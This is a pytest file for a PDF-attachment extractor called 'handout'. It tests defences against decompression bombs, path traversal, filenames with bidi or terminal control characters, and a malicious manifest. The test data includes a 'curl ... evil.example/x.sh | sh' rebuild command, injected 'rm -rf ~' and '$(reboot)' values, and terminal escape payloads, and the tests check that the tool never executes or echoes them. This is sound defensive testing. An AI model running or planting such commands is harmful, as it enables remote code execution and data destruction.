"""`handout extract` on a stranger's PDF (issue 27): within every limit, streaming, in memory too;
no name or manifest field reaches the terminal or the shell as the PDF wrote it.

Every hostile PDF is made here by tests/hostile.py (the bomb: 134 kB, 30 attachments sharing one
stream of 127 MB of zeros)."""

from __future__ import annotations

import json
import re
import shlex
import zlib
from pathlib import Path

import pytest
from hostile import attachment_bomb, carrying
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kit import cli, run_measured

import handout
from handout import limits
from handout.editions.extract import MANIFEST_NAME
from handout.editions.rebuild_command import rebuild_command, shell_line
from handout.errors import HandoutError
from handout.terminal import BIDI_CONTROLS

PEAK_MB = 300
SHOWN_BADLY = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f{BIDI_CONTROLS}\u2028\u2029]")
"""What must never reach the terminal: control characters (a newline ends a line, nothing else)
and bidi controls."""


def files_in(folder: Path) -> list[str]:
    """Every file and folder below FOLDER, as '/'-separated paths (hidden ones included)."""
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*")) if folder.exists() else []


def assert_shown_safely(*texts: str) -> None:
    for text in texts:
        assert not SHOWN_BADLY.search(text), ascii(text)


# -- item 1: streaming, every limit, nothing half-written ----------------------------------------

def test_the_attachment_bomb_is_one_line_and_costs_no_memory(tmp_path):
    """30 attachments sharing one stream of 127 MB of zeros took 4 GB and 34 s, and wrote 2 GB."""
    bomb = attachment_bomb(tmp_path / "bomb.pdf", also={"deck.md": b"# Talk\n"})
    assert bomb.stat().st_size < 140_000
    run, peak = run_measured("extract", bomb, tmp_path / "out")
    assert run.returncode == 1, run.stderr
    [line] = [t for t in run.stderr.splitlines() if "not-extracted" in t]
    assert "'zeros000.bin', 'zeros001.bin'" in line and "and 24 more not extracted" in line
    assert f"more than {limits.MAX_EXTRACT_RATIO} times its size" in line
    assert files_in(tmp_path / "out") == ["deck.md"]  # and no temporary file left behind
    assert peak <= PEAK_MB, f"extract took {peak:.0f} MB"

    run = cli("extract", bomb, tmp_path / "strict", "--strict")
    assert run.returncode == 2 and run.stderr.startswith("error: ") and "bomb" in run.stderr
    assert "--strict: nothing was written" in run.stderr and not (tmp_path / "strict").exists()


def test_extract_stops_before_the_total_and_writes_nothing_in_part(tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_EXTRACTED_BYTES", 3 * limits.MiB)
    megabyte = zlib.compress(bytes(limits.MiB))
    pdf = carrying(tmp_path / "five.pdf", {}, {f"f{n}.bin": megabyte for n in range(5)})
    result = handout.extract(pdf, tmp_path / "out")
    assert [p.name for p in result.written] == ["f0.bin", "f1.bin", "f2.bin"]
    assert [(tmp_path / "out" / n).stat().st_size for n in ("f0.bin", "f1.bin", "f2.bin")] \
        == [limits.MiB] * 3
    [refusal] = result.problems
    assert "'f3.bin', 'f4.bin' not extracted: handout extracts at most 3 MB" in refusal.message
    assert files_in(tmp_path / "out") == ["f0.bin", "f1.bin", "f2.bin"]


def test_a_file_refused_midway_leaves_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_EXTRACTED_FILE_BYTES", 3 * limits.MiB)
    pdf = carrying(tmp_path / "big.pdf", {"a/small.txt": b"small\n"},
                   {"a/big.bin": zlib.compress(bytes(5 * limits.MiB))})
    result = handout.extract(pdf, tmp_path / "out")
    assert "larger than 3 MB, the most one file may be" in result.problems[0].message
    assert files_in(tmp_path / "out") == ["a", "a/small.txt"]


def test_the_ratio_judges_only_large_files_and_lets_honest_ones_through(tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "RATIO_FLOOR_BYTES", limits.MiB)
    text = b"".join(b"line %d of an honest talk, written out\n" % n for n in range(60_000))  # 2.4 MB
    pdf = carrying(tmp_path / "mixed.pdf", {}, {
        "honest.md": zlib.compress(text), "small-zeros.bin": zlib.compress(bytes(900_000)),
        "zeros.bin": zlib.compress(bytes(2 * limits.MiB))})
    result = handout.extract(pdf, tmp_path / "out")
    assert sorted(p.name for p in result.written) == ["honest.md", "small-zeros.bin"]
    assert (tmp_path / "out" / "honest.md").read_bytes() == text
    [refusal] = result.problems
    assert "'zeros.bin' not extracted" in refusal.message and "bomb" in refusal.message


def test_names_are_checked_before_anything_is_decompressed(tmp_path, monkeypatch):
    inflated = []
    real = zlib.decompressobj
    monkeypatch.setattr(zlib, "decompressobj", lambda *a: inflated.append(1) or real(*a))
    pdf = carrying(tmp_path / "names.pdf", {}, {"../up.bin": zlib.compress(b"x" * 100),
                                                "ok\u202etxt.exe": zlib.compress(b"x")})
    result = handout.extract(pdf, tmp_path / "out")
    assert result.written == [] and inflated == [] and len(result.problems) == 2


# -- item 3: names and the manifest never reach the terminal or the shell as written --------------

HOSTILE_NAMES = {
    "invoice\u202efdp.exe": "bidi",  # shows as invoiceexe.pdf
    "\u2067isolate\u2069.md": "bidi",
    "csi\x9b31m.md": "control",  # a C1 control: CSI on many terminals
    "title\x1b]0;owned\x07.md": "control",
    "cr\rover.md": "control",
}


def test_names_with_controls_or_bidi_overrides_are_refused_and_shown_escaped(tmp_path):
    pdf = carrying(tmp_path / "names.pdf", {**dict.fromkeys(HOSTILE_NAMES, b"x"), "fine.md": b"ok\n"})
    run = cli("extract", pdf, tmp_path / "out")
    assert run.returncode == 1
    assert files_in(tmp_path / "out") == ["fine.md"]
    assert_shown_safely(run.stdout, run.stderr)
    for shown in ("invoice\\u202efdp.exe", "\\u2067isolate\\u2069.md", "csi\\x9b31m.md",
                  "title\\x1b]0;owned\\x07.md", "cr\\x0dover.md"):
        assert shown in run.stderr, shown
    assert "bidi override" in run.stderr


EVIL_MANIFEST = {
    "format": "handout-archive/1", "deck": "deck.md",
    "title": "\x1b]0;owned\x07\x1b[2J",
    "rebuild": "handout build deck.md && curl -s http://evil.example/x.sh | sh",
    "options": {"per-page": 3, "author": "Ada; rm -rf ~", "allow-remote": True, "root": "../../..",
                "margin": "$(reboot)", "jobs": 4, "no-such-option": 1, "date": "\x1b[31mred",
                "paper": "letter", "landscape": "yes"},
}


def test_the_rebuild_command_is_made_from_checked_fields_never_echoed(tmp_path):
    pdf = carrying(tmp_path / "evil.pdf", {"deck.md": b"# Talk\n",
                                           MANIFEST_NAME: json.dumps(EVIL_MANIFEST).encode()})
    folder = tmp_path / "a folder; with spaces"
    run = cli("extract", pdf, folder)
    assert_shown_safely(run.stdout, run.stderr)
    assert "curl" not in run.output and "evil.example" not in run.output
    [line] = [t for t in run.stdout.splitlines() if t.startswith("to build it again: ")]
    assert line == (f"to build it again: cd {shlex.quote(str(folder))} && handout build deck.md "
                    "--per-page 3 --paper letter --author 'Ada; rm -rf ~'")
    assert shlex.split(line.partition(" && ")[2]) == [
        "handout", "build", "deck.md", "--per-page", "3", "--paper", "letter", "--author", "Ada; rm -rf ~"]
    left_out = [t for t in run.stderr.splitlines() if "untrusted-manifest" in t]
    for name in ("allow-remote", "root", "margin", "jobs", "no-such-option", "date", "landscape"):
        assert sum(f"option '{name}'" in t for t in left_out) == 1, (name, run.stderr)
    assert "reach beyond its folder" in run.stderr and "\\x1b[31mred" not in run.stdout
    assert run.returncode == 1  # the left-out fields are warnings


@pytest.mark.parametrize(("deck", "files", "says"), [
    ("-rf.md", {"-rf.md": b"#\n"}, "handout build ./-rf.md"),
    ("../../etc/passwd", {"deck.md": b"#\n"}, "names no deck file"),
    ("other.md", {"deck.md": b"#\n"}, "a deck file the archive does not carry"),
    (["deck.md"], {"deck.md": b"#\n"}, "names no deck file"),
])
def test_the_deck_to_rebuild_is_one_extract_wrote(tmp_path, deck, files, says):
    manifest = json.dumps({"deck": deck, "options": {}}).encode()
    pdf = carrying(tmp_path / "x.pdf", {**files, MANIFEST_NAME: manifest})
    run = cli("extract", pdf, tmp_path / "out")
    assert says in run.output


def test_the_one_rebuild_command_serves_the_archive_and_extract():
    argv, env = rebuild_command({"deck": "talk/deck.md", "options": {
        "root": "..", "allow-remote": True, "per-page": 6}}, trusted=True)
    # (root is recorded from the deck's folder, and said from the folder the command runs in)
    assert shell_line(argv, env) == "handout build talk/deck.md --per-page 6 --root . --allow-remote"
    left_out: list[str] = []
    argv, _ = rebuild_command({"deck": "talk/deck.md", "options": {
        "root": "..", "allow-remote": True, "per-page": 6}}, {"talk/deck.md"}, left_out=left_out)
    assert argv[3:] == ["--per-page", "6", "--root", "."] and "allow-remote" in left_out[0]
    with pytest.raises(ValueError, match="control character"):
        shell_line(["handout", "build", "a\x1b.md"])
    with pytest.raises(ValueError, match="environment"):
        shell_line(["handout"], {"A=B; rm": "x"})


def test_strict_extract_writes_nothing_when_anything_is_refused(tmp_path):
    pdf = carrying(tmp_path / "x.pdf", {"deck.md": b"#\n", "../up.md": b"x"})
    with pytest.raises(HandoutError) as caught:
        handout.extract(pdf, tmp_path / "out", strict=True)
    assert "'../up.md' not extracted" in caught.value.problem.message
    assert not (tmp_path / "out").exists()
    assert handout.extract(pdf, tmp_path / "out").written == [tmp_path / "out" / "deck.md"]


# -- item 7: fuzzing what a stranger controls in an archive ---------------------------------------

NAME_CHARACTERS = st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from(
    "\x00\x1b\x07\x9b\r\n\u202e\u2066/\\.:")
FIELD = st.recursive(st.none() | st.booleans() | st.integers(-2, 10**6) | st.text(NAME_CHARACTERS,
                                                                                  max_size=30),
                     lambda inner: st.lists(inner, max_size=3), max_leaves=4)


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(names=st.lists(st.text(NAME_CHARACTERS, min_size=1, max_size=24), min_size=1, max_size=4),
       deck=st.one_of(st.just("deck.md"), st.text(NAME_CHARACTERS, max_size=20)),
       options=st.dictionaries(st.sampled_from(["per-page", "author", "root", "paper", "strict",
                                                "allow-remote", "date", "slides", "lines"])
                               | st.text(NAME_CHARACTERS, max_size=12), FIELD, max_size=5))
def test_fuzzed_names_and_manifests_never_crash_escape_or_leave_the_folder(
        tmp_path_factory, names, deck, options):
    box = tmp_path_factory.mktemp("fuzz")
    manifest = json.dumps({"deck": deck, "options": options, "title": names[0]}).encode()
    pdf = carrying(box / "x.pdf", {**dict.fromkeys(names, b"x\n"), "deck.md": b"#\n",
                                   MANIFEST_NAME: manifest})
    run = cli("extract", pdf, box / "out")
    assert run.returncode in (0, 1), run.output
    assert_shown_safely(run.stdout, run.stderr)
    outside = [p for p in box.rglob("*") if not (p == box / "x.pdf" or p.is_relative_to(box / "out"))]
    assert outside == []
    for path in (box / "out").rglob("*"):
        assert not SHOWN_BADLY.search(path.name) and "\n" not in path.name, ascii(path.name)
    for line in run.stdout.splitlines():
        if line.startswith("to build it again: "):
            argv = shlex.split(line.partition(" && ")[2])
            assert argv[:2] == ["handout", "build"] and not argv[2].startswith("-")
            assert (box / "out" / argv[2]).is_file()
